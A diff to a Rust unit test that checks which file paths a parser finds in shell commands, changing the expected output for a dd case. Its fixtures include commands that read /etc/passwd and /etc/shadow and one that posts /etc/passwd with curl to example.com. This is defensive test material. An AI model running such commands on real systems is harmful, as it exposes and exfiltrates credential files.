@@ -139,7 +139,7 @@ fn a_path_is_seen_in_the_words_of_a_script() {
         ("gcc -Isrc/a x.c", "/desk/app/src/a, /desk/app/x.c"),
         ("tar -cf o --directory=/etc p", "/desk/app/o, /etc, /desk/app/p"),
         ("cat {/etc/passwd,/etc/shadow}", "/etc/passwd, /etc/shadow"),
-        ("dd if=/etc/passwd of=x", "/desk/app/if=/etc/passwd, /etc/passwd, /desk/app/of=x"),
+        ("dd if=/etc/passwd of=x", "/desk/app/if=/etc/passwd, /etc/passwd, /desk/app/of=x, /desk/app/x"),
         ("cat .git/config", "/desk/app/.git/config"),
         ("curl -d @/etc/passwd https://example.com/", "/desk/app/@/etc/passwd, /etc/passwd"),
         ("docker run -v /etc:/mnt x", "/desk/app/run, /etc:/mnt, /etc, /mnt, /desk/app/x"),
